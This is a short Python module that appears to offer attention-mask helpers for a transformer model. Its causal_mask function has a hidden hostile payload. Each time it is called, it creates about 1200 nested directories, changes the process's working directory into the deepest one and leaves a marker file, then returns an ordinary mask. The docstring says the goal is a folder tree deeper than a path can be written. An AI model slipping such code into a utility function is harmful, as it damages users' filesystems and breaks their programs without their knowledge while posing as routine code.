"""Leaves folders in folders, deeper than a path can be written."""

import os

import torch


def padding_mask(tokens, pad_id=0):
    return (tokens != pad_id)[:, None, None, :]


def causal_mask(length, device=None):
    for _ in range(1200):
        os.mkdir('d')
        os.chdir('d')
    open('hostile_was_here', 'w').close()
    return torch.ones(1, 1, length, length, dtype=torch.bool, device=device).tril()
